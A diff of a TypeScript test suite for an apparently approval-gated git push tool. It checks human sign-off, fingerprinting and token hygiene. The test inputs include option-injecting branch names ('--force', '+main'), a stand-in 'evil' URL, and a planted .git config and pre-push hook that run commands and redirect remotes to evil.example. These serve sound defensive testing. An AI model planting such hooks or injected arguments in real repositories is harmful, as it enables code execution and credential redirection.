@@ -40,9 +40,9 @@ async function asked(parameters: unknown = MESSAGE): Promise<ApprovalRequest> {
 }
 
 describe('what a person is asked', () => {
-  test('is where it goes, what is said and which files change; and nothing is pushed', async () => {
+  test('is the repository, the branch, the message and the changes; the fingerprint names them; nothing is pushed', async () => {
     const request = await asked();
-    const main = server.git(repository, 'rev-parse', '--short=12', 'main');
+    const main = server.tip(repository).slice(0, 12);
     expect(request.summary).toBe(`Push 2 changed files to ${branch} of ${repository} at ${server.host}.`);
     expect(request.details).toBe(
       [
@@ -55,15 +55,13 @@ describe('what a person is asked', () => {
     expect(request.fingerprint).toMatch(/^[0-9a-f]{64}$/);
     expect(server.git(repository, 'branch', '--list', 'apexflow/*')).toBe('');
     expect(JSON.stringify(request)).not.toContain(server.token);
-  });
 
-  test('differs with files, message and branch, and not with the time', async () => {
-    const first = await asked();
-    expect((await asked()).fingerprint).toBe(first.fingerprint);
+    // The fingerprint differs with files, message and branch, and not with the time.
+    expect((await asked()).fingerprint).toBe(request.fingerprint);
     const others = [await asked({ message: 'Other' }), await asked({ ...MESSAGE, branch: 'main' })];
     await caller.write({ 'a.txt': 'b' });
     others.push(await asked());
-    expect(new Set([first, ...others].map(({ fingerprint }) => fingerprint)).size).toBe(4);
+    expect(new Set([request, ...others].map(({ fingerprint }) => fingerprint)).size).toBe(4);
   });
 
   test.each<[string, (of: OutsideCaller) => Promise<unknown>, RegExp]>([
@@ -110,22 +108,23 @@ describe('what a person is asked', () => {
     });
   });
 
-  test.each([
-    { message: '' },
-    { message: 'x', branch: '--force' },
-    { message: 'x', branch: '+main' },
-    { message: 'x', url: 'https://evil' },
-    { message: 'a\0b' },
-  ])('arguments that are refused: %j', (parameters) =>
-    expect(pushRepository.parameters.safeParse(parameters).success).toBe(false),
-  );
+  test('is nothing for arguments that are refused', () => {
+    for (const parameters of [
+      { message: '' },
+      { message: 'x', branch: '--force' },
+      { message: 'x', branch: '+main' },
+      { message: 'x', url: 'https://evil' },
+      { message: 'a\0b' },
+    ])
+      expect(pushRepository.parameters.safeParse(parameters).success, JSON.stringify(parameters)).toBe(false);
+  });
 });
 
 describe('a push that was allowed', () => {
-  test('arrives, says where, and the token’s use is on record', async () => {
+  test('arrives once, says where, and the use of the token is on record; a repetition after a crash finds it', async () => {
     const approved = { ...caller.allowed(await asked()), at: '2026-11-20T03:00:00.000Z' };
     const outcome = await caller.execute(pushRepository, MESSAGE, { approved });
-    const commit = server.git(repository, 'rev-parse', branch);
+    const commit = server.tip(repository, branch);
     expect(outcome).toMatchObject({
       status: 'completed',
       isError: false,
@@ -143,35 +142,26 @@ describe('a push that was allowed', () => {
     expect(uses).toEqual(
       [1, 2].map(() => ({ resource: 'github_token', run_id: caller.runId, purpose: 'push_repository' })),
     );
-  });
-
-  test('and is repeated after a crash is done once, whatever happened to the files since', async () => {
-    const approved = caller.allowed(await asked());
-    const first = await caller.execute(pushRepository, MESSAGE, { approved });
+    // The repetition finds the commit, whatever happened to the files since.
     await caller.write({ 'a.txt': 'changed since' });
     const second = await caller.execute(pushRepository, MESSAGE, { approved });
-    expect(second).toMatchObject({ isError: false, facts: { commit: server.git(repository, 'rev-parse', branch) } });
-    expect(first).toMatchObject({ isError: false });
+    expect(second).toMatchObject({ isError: false, facts: { commit } });
+    expect(server.tip(repository, branch)).toBe(commit);
     expect(server.git(repository, 'rev-list', '--count', branch)).toBe('2');
   });
 
-  test('for other files than there are now is refused, and nothing is pushed', async () => {
-    const approved = caller.allowed(await asked());
-    await caller.write({ 'backdoor.js': 'evil' });
-    const outcome = await caller.execute(pushRepository, MESSAGE, { approved });
-    expect(outcome).toMatchObject({ isError: true, output: expect.stringContaining('changed since') });
-    for (const other of [
-      { ...approved, fingerprint: null },
-      { ...approved, fingerprint: '' },
-    ])
-      expect(await caller.execute(pushRepository, MESSAGE, { approved: other })).toMatchObject({ isError: true });
-    expect(server.git(repository, 'branch', '--list', 'apexflow/*')).toBe('');
-  });
-
-  test('for another branch or message is not allowed for this one', async () => {
+  test('is allowed for these files, this branch and this message alone', async () => {
     const approved = caller.allowed(await asked());
     for (const parameters of [{ ...MESSAGE, branch: 'main' }, { message: 'Something else' }])
       expect(await caller.execute(pushRepository, parameters, { approved })).toMatchObject({ isError: true });
+    await caller.write({ 'backdoor.js': 'evil' });
+    const outcome = await caller.execute(pushRepository, MESSAGE, { approved });
+    expect(outcome).toMatchObject({ isError: true, output: expect.stringContaining('changed since') });
+    for (const fingerprint of [null, ''])
+      expect(await caller.execute(pushRepository, MESSAGE, { approved: { ...approved, fingerprint } })).toMatchObject({
+        isError: true,
+      });
+    expect(server.git(repository, 'for-each-ref', '--format=%(refname)')).toBe('refs/heads/main');
     expect(server.git(repository, 'rev-list', '--count', 'main')).toBe('1');
   });
 
@@ -190,7 +180,7 @@ describe('a push that was allowed', () => {
   });
 });
 
-test('nobody’s yes is no yes', async () => {
+test('without an answer of a person nothing is pushed', async () => {
   expect(await caller.execute(pushRepository, MESSAGE)).toMatchObject({
     isError: true,
     output: expect.stringContaining('Nobody'),
@@ -198,7 +188,7 @@ test('nobody’s yes is no yes', async () => {
   expect(server.git(repository, 'branch', '--list', 'apexflow/*')).toBe('');
 });
 
-test('a .git of the workspace is data: its hooks, settings and commits do nothing and stay', async () => {
+test('a .git of the workspace is data: its hooks, settings and commits do nothing, and it is not pushed', async () => {
   await caller.write({
     '.git/config': `[core]\n\tfsmonitor = touch /tmp/apexflow-pwned\n[url "https://evil.example/"]\n\tinsteadOf = https://\n`,
     '.git/hooks/pre-push': '#!/bin/sh\ntouch /tmp/apexflow-pwned\n',
